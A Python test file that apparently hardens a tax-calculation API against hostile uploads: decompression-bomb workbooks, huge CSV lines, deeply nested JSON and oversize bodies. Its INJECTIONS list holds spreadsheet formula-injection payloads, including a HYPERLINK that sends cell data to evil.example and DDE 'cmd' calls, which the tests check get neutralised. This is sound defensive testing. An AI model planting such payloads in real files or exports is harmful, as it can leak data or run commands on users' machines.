"""Hostile bodies and files against a real server: each gets a clean 4xx (or the right answer) and the
server stays responsive, which a ``/healthz`` probe checks while the upload is being processed.

The server is uvicorn in a thread on 127.0.0.1; the limits are set low here so that each case is quick.
"""

from __future__ import annotations

import io
import os
import socket
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator

import httpx
import pytest
import uvicorn
from openpyxl import Workbook, load_workbook

from taxapi import ingest

DAY = "2026-03-10"
XLSX = ingest.XLSX_MEDIA_TYPE
ORDER = {"date": DAY, "currency": "EUR", "seller": {"country": "DE"}, "ship_from": {"country": "DE"},
         "ship_to": {"country": "DE"}, "lines": [{"amount": "10.00"}]}
OSS_Q = {"scheme": "union", "period": "2024-Q1", "member_state_of_identification": "DE"}
OSS_HEADER = b"id,date,country_of_consumption,ship_from_country,supply,rate_percent,net_amount,tax_amount,currency\n"
THRESHOLDS_Q = {"seller_country": "DE", "as_of": "2026-10-20"}
PROBE_LIMIT_S = 1.0


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    from taxapi.app import app

    previous = ingest.set_limits(ingest.get_limits(), max_body_bytes_batch_csv=80 * ingest.MiB)
    shared_tmp = tempfile.tempdir
    tempfile.tempdir = tempfile.mkdtemp(prefix="taxapi-test-")  # this server's temporary files, and no one else's
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=srv.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not srv.started:
        assert time.monotonic() < deadline, "the server did not start"
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    srv.should_exit = True
    thread.join(30)
    sock.close()
    ingest.set_limits(previous)
    ingest.set_limits(None)
    own_tmp, tempfile.tempdir = tempfile.tempdir, shared_tmp
    os.rmdir(own_tmp)  # empty: nothing was left behind


@pytest.fixture
def limits():
    previous = ingest.get_limits()
    yield lambda **changes: ingest.set_limits(previous, **changes)
    ingest.set_limits(previous)


def while_probing(base: str, send: Callable[[httpx.Client], httpx.Response]) -> tuple[httpx.Response, list[float], int]:
    """``send`` in a thread; meanwhile GET /healthz in a loop. The answer, every probe's duration, and how many
    probes were answered before the answer came."""
    result: dict[str, object] = {}

    def run() -> None:
        with httpx.Client(base_url=base, timeout=300) as c:
            try:
                result["response"] = send(c)
            except BaseException as exc:  # noqa: BLE001 - re-raised in the test's thread
                result["error"] = exc

    worker = threading.Thread(target=run)
    worker.start()
    probes: list[float] = []
    during = 0
    with httpx.Client(base_url=base, timeout=30) as c:
        while worker.is_alive() or not probes:
            start = time.monotonic()
            r = c.get("/healthz")
            probes.append(time.monotonic() - start)
            assert r.status_code == 200
            if worker.is_alive():
                during += 1
            time.sleep(0.05)
    worker.join()
    if "error" in result:
        raise result["error"]  # type: ignore[misc]
    return result["response"], probes, during  # type: ignore[return-value]


def assert_responsive(probes: list[float], during: int) -> None:
    assert max(probes) < PROBE_LIMIT_S, probes
    assert during >= 1, "no probe was answered while the upload was being processed"


def _problem(r: httpx.Response, status: int, code: str) -> dict:
    assert r.status_code == status, r.text[:500]
    assert r.headers["content-type"].startswith("application/problem+json")
    body = r.json()
    assert body["code"] == code
    return body


def _template_workbook(rows: list[list[object]]) -> dict[str, bytes]:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as z:
        return {n: z.read(n) for n in z.namelist()}


def _zip(members: dict[str, bytes | Callable[[zipfile.ZipFile, str], None]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            if callable(data):
                data(z, name)
            else:
                z.writestr(name, data)
    return buf.getvalue()


# ----- files that once froze the server -------------------------------------------------------


def test_a_two_million_row_workbook_is_refused_while_the_server_answers(server, limits):
    """16.6 MB, 2,000,000 rows once kept the server at 100 % CPU for 510 s. Now: 413 at the row limit
    (lowered here from 100,000 to keep the test short)."""
    limits(xlsx_max_rows=20_000)
    members = _template_workbook([["country", "amount"]])
    head, _, tail = members["xl/worksheets/sheet1.xml"].partition(b"</sheetData>")  # the header row, then 2M rows

    def sheet(z: zipfile.ZipFile, name: str) -> None:
        with z.open(name, "w") as f:
            f.write(head)
            row = b"<row><c><v>1</v></c></row>"
            for _ in range(20):
                f.write(row * 100_000)
            f.write(b"</sheetData>" + tail)

    members["xl/worksheets/sheet1.xml"] = sheet  # type: ignore[assignment]
    data = _zip(members)  # type: ignore[arg-type]
    assert len(data) < ingest.get_limits().max_body_bytes_batch_xlsx
    before = set(os.listdir(tempfile.gettempdir()))
    r, probes, during = while_probing(server, lambda c: c.post("/v1/batch", params={"date": DAY, "country": "DE"},
                                                                content=data, headers={"content-type": XLSX}))
    body = _problem(r, 413, "payload_too_large")
    assert body["limit_rows"] == ingest.get_limits().xlsx_max_rows
    assert_responsive(probes, during)
    assert set(os.listdir(tempfile.gettempdir())) - before == set()  # the answer's half-written sheet is gone too


def test_a_decompression_bomb_is_refused_from_the_zip_directory(server, limits):
    """A 1 MB workbook with one 1 GiB text cell once answered 200 after 22 s at 3.2 GiB. Here: a cell of
    64 MiB against a limit of 16 MiB, refused before anything is inflated."""
    limits(xlsx_max_uncompressed_bytes=16 * ingest.MiB)
    members = _template_workbook([["country", "amount", "note"], ["DE", 10, "x"]])

    def strings(z: zipfile.ZipFile, name: str) -> None:
        with z.open(name, "w") as f:
            f.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            for _ in range(64):
                f.write(b"A" * ingest.MiB)
            f.write(b"</t></si></sst>")

    members["xl/sharedStrings.xml"] = strings  # type: ignore[assignment]
    data = _zip(members)  # type: ignore[arg-type]
    assert len(data) < 1 * ingest.MiB
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, content=data, headers={"content-type": XLSX}, timeout=60)
    body = _problem(r, 413, "payload_too_large")
    assert body["limit_bytes"] == 16 * ingest.MiB


def test_a_giant_line_is_refused_before_the_status_line(server):
    """One 100 MB line once took 26.5 s to read. A line of 16 MB here (sixteen times the record limit; the body
    is under its own): refused with its row, before anything is answered."""
    data = b"country,amount,note\nDE,10,ok\nDE,10," + b"x" * (16 * ingest.MiB) + b"\nDE,10,after\n"
    r, probes, during = while_probing(server, lambda c: c.post("/v1/batch", params={"date": DAY}, content=data,
                                                                headers={"content-type": "text/csv"}))
    body = _problem(r, 413, "payload_too_large")
    assert body["errors"][0]["loc"] == ["body", 3] and body["limit_chars"] == ingest.get_limits().csv_max_record_chars
    assert max(probes) < PROBE_LIMIT_S


@pytest.mark.parametrize("where", ["header", "data"])
def test_fields_longer_than_the_csv_modules_default_are_processed_with_every_row(server, where):
    """A field over 131,072 characters once gave a 500 (in the header) or a 200 with the header line only and a
    cut connection (in the data). Under the record limit it is read like any other field."""
    long = "x" * 200_000
    header = f"country,amount,{long if where == 'header' else 'note'}"
    rows = [f"DE,10,{long if where == 'data' else 'a'}", "FR,10,b", "IT,10,c"]
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, content=("\n".join([header, *rows]) + "\n").encode(),
                   headers={"content-type": "text/csv"}, timeout=60)
    assert r.status_code == 200, r.text[:300]
    lines = r.text.splitlines()
    assert len(lines) == 4 and [line.split(",")[0] for line in lines[1:]] == ["DE", "FR", "IT"]
    assert [line.split(",")[5] for line in lines[1:]] == ["11.90", "12.00", "12.20"]  # gross_amount after the 3 input columns


def test_a_csv_batch_over_the_time_limit_is_a_408(server, limits):
    limits(request_time_limit_seconds=0.2)
    data = b"country,amount\n" + b"DE,10.00\n" * 200_000
    r, probes, during = while_probing(server, lambda c: c.post("/v1/batch", params={"date": DAY}, content=data,
                                                                headers={"content-type": "text/csv"}))
    body = _problem(r, 408, "time_limit_exceeded")
    assert body["limit_seconds"] == 0.2
    assert max(probes) < PROBE_LIMIT_S


def test_a_large_csv_batch_runs_off_the_event_loop(server):
    data = b"country,amount\n" + b"DE,10.00\n" * 60_000
    r, probes, during = while_probing(server, lambda c: c.post("/v1/batch", params={"date": DAY}, content=data,
                                                                headers={"content-type": "text/csv"}))
    assert r.status_code == 200 and len(r.text.splitlines()) == 60_001
    assert_responsive(probes, during)


def test_uploads_leave_no_temporary_file(server, limits):
    limits(max_body_bytes_batch_csv=4 * ingest.MiB)
    before = set(os.listdir(tempfile.gettempdir()))
    big = b"country,amount\n" + b"DE,10.00\n" * 1_000_000  # 9 MB: over the limit
    ok = b"country,amount\n" + b"DE,10.00\n" * 200_000  # 1.8 MB: spooled to disk by the form parser
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, files={"file": ("big.csv", big, "text/csv")}, timeout=60)
    _problem(r, 413, "payload_too_large")
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, files={"file": ("ok.csv", ok, "text/csv")}, timeout=60)
    assert r.status_code == 200 and len(r.text.splitlines()) == 200_001
    assert set(os.listdir(tempfile.gettempdir())) - before == set()


# ----- size limits: 413 before the body is read -----------------------------------------------


def _cases() -> list[tuple[str, str, dict[str, str], str, str]]:
    return [
        ("max_body_bytes_calculate", "/v1/calculate", {}, "application/json", "{}"),
        ("max_body_bytes_thresholds_json", "/v1/thresholds", {}, "application/json", "{}"),
        ("max_body_bytes_thresholds_csv", "/v1/thresholds", THRESHOLDS_Q, "text/csv", "date,ship_to_country,net_amount,currency\n"),
        ("max_body_bytes_oss_json", "/v1/oss/summary", {}, "application/json", "{}"),
        ("max_body_bytes_oss_csv", "/v1/oss/summary", OSS_Q, "text/csv", OSS_HEADER.decode()),
        ("max_body_bytes_batch_csv", "/v1/batch", {"date": DAY}, "text/csv", "country,amount\n"),
        ("max_body_bytes_batch_xlsx", "/v1/batch", {"date": DAY}, XLSX, "PK\x03\x04"),
    ]


@pytest.mark.parametrize(("limit", "path", "params", "media", "start"), _cases())
@pytest.mark.parametrize("framing", ["content-length", "chunked"])
def test_every_endpoint_refuses_a_body_over_its_limit_with_413(server, limits, limit, path, params, media, start, framing):
    limits(**{limit: 64 * 1024})
    body = start.encode() + b" " * (256 * 1024)
    if framing == "chunked":
        def content() -> Iterator[bytes]:
            for i in range(0, len(body), 16 * 1024):
                yield body[i:i + 16 * 1024]
    else:
        content = None  # type: ignore[assignment]
    r = httpx.post(f"{server}{path}", params=params, content=content() if content else body,
                   headers={"content-type": media}, timeout=60)
    problem = _problem(r, 413, "payload_too_large")
    assert problem["limit_bytes"] == 64 * 1024 and "65,536 bytes" in problem["detail"]


def test_a_multipart_upload_over_the_limit_is_a_413(server, limits):
    limits(max_body_bytes_batch_csv=64 * 1024, max_body_bytes_batch_xlsx=64 * 1024)
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY},
                   files={"file": ("p.csv", b"country,amount\n" + b"DE,1\n" * 100_000, "text/csv")}, timeout=60)
    _problem(r, 413, "payload_too_large")


# ----- JSON -----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/v1/calculate", "/v1/thresholds", "/v1/oss/summary"])
def test_json_nested_100000_deep_is_a_422(server, path):
    for body in (b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000):
        r = httpx.post(f"{server}{path}", content=body, headers={"content-type": "application/json"}, timeout=60)
        problem = _problem(r, 422, "validation_error")
        assert problem["errors"][0]["loc"][0] == "body"


@pytest.mark.parametrize("path", ["/v1/calculate", "/v1/thresholds", "/v1/oss/summary"])
def test_json_endpoints_refuse_a_body_without_a_json_content_type(server, path):
    """text/plain is a CSV ledger for /v1/oss/summary (and refused by the others); form data and a body
    without a content type are refused by all three."""
    for media in ("text/plain", "application/x-www-form-urlencoded", None):
        if media == "text/plain" and path == "/v1/oss/summary":
            continue
        r = httpx.post(f"{server}{path}", content=b'{"a": 1}', headers={"content-type": media} if media else {}, timeout=30)
        _problem(r, 415, "unsupported_media_type")


# ----- amounts --------------------------------------------------------------------------------


def test_a_product_beyond_what_an_amount_can_carry_is_a_422_naming_the_field(server):
    order = {**ORDER, "lines": [{"quantity": "100000000000000", "unit_price": "100000000000000"}]}
    problem = _problem(httpx.post(f"{server}/v1/calculate", json=order), 422, "validation_error")
    assert problem["errors"][0]["loc"] == ["body", "lines", 0, "unit_price"]
    order = {**ORDER, "lines": [{"amount": "999999999999999"}] * 2}
    problem = _problem(httpx.post(f"{server}/v1/calculate", json=order), 422, "validation_error")
    assert problem["errors"][0]["loc"] == ["body", "lines"]


def test_minus_zero_is_answered_as_zero(server):
    r = httpx.post(f"{server}/v1/calculate", json={**ORDER, "lines": [{"amount": "-0"}], "shipping": {"amount": "-0.00"}})
    assert r.status_code == 200
    line = r.json()["lines"][0]
    assert (line["net_amount"], line["gross_amount"]) == ("0.00", "0.00")
    assert "-" not in r.json()["totals"]["net_amount"] + r.json()["totals"]["gross_amount"]
    r = httpx.get(f"{server}/v1/price", params={"country": "DE", "date": DAY, "amount": "-0"})
    assert (r.json()["amount"], r.json()["net_amount"], r.json()["gross_amount"]) == ("0", "0.00", "0.00")


# ----- spreadsheet output ---------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_answers_neutralise_cells_a_spreadsheet_would_run(server):
    import csv

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")  # quotes the field that holds a CR
    w.writerow(["name", "country", "amount"])
    for text in INJECTIONS:
        w.writerow([text, "DE", "10.00"])
    w.writerow(["credit", "DE", "-5.00"])
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, content=buf.getvalue().encode(), headers={"content-type": "text/csv"})
    rows = list(csv.reader(io.StringIO(r.text)))
    assert [row[0] for row in rows[1:-1]] == ["'" + t for t in INJECTIONS]
    assert rows[-1][:3] == ["credit", "DE", "-5.00"]  # a number stays a number
    raw = httpx.post(f"{server}/v1/batch", params={"date": DAY, "formulas": "keep"}, content=buf.getvalue().encode(),
                     headers={"content-type": "text/csv"})
    assert [row[0] for row in list(csv.reader(io.StringIO(raw.text)))[1:-1]] == INJECTIONS


def _injection_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(["name", "country", "amount", "Formel"])
    for text in INJECTIONS[:2]:
        ws.append([text, "DE", 10, "=C2*2"])
    ws["A2"].data_type = "s"  # stored as text, as a product feed would write it
    ws["A3"].data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_xlsx_answers_write_formula_text_as_text_unless_kept(server):
    data = _injection_workbook()
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY}, content=data, headers={"content-type": XLSX})
    assert r.status_code == 200, r.text[:300]
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [[(c.value, c.data_type) for c in row[:4]] for row in ws.iter_rows(min_row=2)]
    assert cells[0][0] == (INJECTIONS[0], "s") and cells[1][0] == (INJECTIONS[1], "s")
    assert cells[0][3] == ("=C2*2", "s")  # the uploaded formula comes back as its text
    r = httpx.post(f"{server}/v1/batch", params={"date": DAY, "formulas": "keep"}, content=data, headers={"content-type": XLSX})
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws["D2"].data_type == "f" and ws["A2"].data_type == "f"  # as before: live formulas


def test_the_same_request_gives_the_same_xlsx_bytes(server):
    data = _injection_workbook()
    answers = []
    for _ in range(2):
        answers.append(httpx.post(f"{server}/v1/batch", params={"date": DAY}, content=data, headers={"content-type": XLSX}).content)
        time.sleep(2.1)  # the zip timestamps have a resolution of two seconds, the document's of one
    assert answers[0] == answers[1]
    with zipfile.ZipFile(io.BytesIO(answers[0])) as z:
        assert {i.date_time for i in z.infolist()} == {ingest.XLSX_EPOCH}


def test_price_csv_answers_neutralise_echoed_text(server):
    r = httpx.get(f"{server}/v1/price", params={"country": "DE", "amount": "10", "date": DAY, "postal_code": "=1+2",
                                               "format": "csv"})
    assert r.status_code == 200
    assert r.text.splitlines()[1].split(",")[:3] == ["DE", "", "'=1+2"]
